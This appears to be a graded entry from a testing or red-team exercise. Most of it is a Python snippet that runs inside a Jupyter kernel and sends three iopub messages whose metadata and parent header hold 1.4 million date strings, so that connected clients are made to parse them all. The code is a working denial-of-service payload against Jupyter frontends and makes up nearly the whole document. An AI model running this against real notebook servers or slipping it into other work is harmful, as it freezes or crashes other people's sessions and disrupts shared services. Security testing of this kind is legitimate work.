# aim: a message with 1.4 million dates in its header, each of which a client would parse
# answers: right
# score: 17
# status: graded|stopped
# says: 
# repeats: ten
from IPython import get_ipython

kernel = get_ipython().kernel
print("tried", flush=True)
header = kernel.session.msg_header("stream")
date = "2025-01-01T00:00:00.000000Z"
for _ in range(3):
    message = kernel.session.msg("stream", {"name": "stdout", "text": "x"}, parent=kernel.get_parent(), header=header)
    message["metadata"] = {"d": [date] * 1_000_000}
    message["parent_header"] = {**kernel.get_parent()["header"], "d": [date] * 400_000}
    kernel.session.send(kernel.iopub_socket, message)
